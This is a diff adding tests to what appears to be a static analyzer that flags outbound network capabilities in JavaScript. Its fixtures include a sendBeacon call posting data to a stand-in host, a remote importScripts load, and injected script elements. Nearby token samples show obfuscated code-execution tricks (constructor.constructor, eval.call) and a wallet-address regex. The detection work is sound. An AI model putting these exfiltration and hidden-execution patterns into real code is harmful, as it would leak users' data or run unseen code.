@@ -145,6 +145,32 @@ describe('when a function replaces itself with a getter', () => {
   });
 });
 
+describe('when a page sends or loads through the browser', () => {
+  it('takes beacons, worker script imports and script elements for outbound requests, in both walks', () => {
+    const source = [
+      "navigator.sendBeacon('https://x.invalid/c', JSON.stringify(data));",
+      "importScripts('https://x.invalid/w.js');",
+      "const s = document.createElement('script');",
+      "window.document.createElement('SCRIPT');",
+      // other elements, and a beacon or import of something else
+      "document.createElement('div');",
+      'document.createElement(tag);',
+      "analytics.sendBeacon('https://x.invalid/c');",
+      "loader.importScripts('https://x.invalid/w.js');",
+    ].join('\n');
+    expectFromBothWalks(
+      source,
+      [
+        '1 network.outbound navigator.sendBeacon',
+        '2 network.outbound importScripts',
+        '3 network.outbound script element',
+        '4 network.outbound script element',
+      ],
+      (capability) => capability.startsWith('network.'),
+    );
+  });
+});
+
 describe('when a network module is used for something other than a connection', () => {
   it('takes byte helpers and settings (ws 8.22 and http.websocketMask) for what they are', () => {
     const helpers = [
@@ -273,6 +299,8 @@ describe('when code hides its tokens from the prefilter', () => {
     [p('['), p(']'), p('.'), n('constructor'), p('.'), n('constructor'), p('('), n('c'), p(')')],
     [n('Function'), p(`\`return \${c}\``)],
     [k('const'), n('wallet'), p('='), p('/\\b0x[a-fA-F0-9]{40}\\b/g')],
+    [n('navigator'), p('.'), n('sendBeacon'), p('('), n('u'), p(','), n('c'), p(')')],
+    [n('document'), p('.'), n('createElement'), p('('), q('script'), p(')')],
     [p('('), k('function'), p('('), p(')'), p('{'), p('}'), p(')'), p('.'), n('constructor'), p('`x`')],
     [n('eval'), p('.'), n('call'), p('('), k('null'), p(','), n('c'), p(')')],
     [n('Function'), p('.'), n('apply'), p('('), k('null'), p(','), p('['), n('c'), p(']'), p(')')],
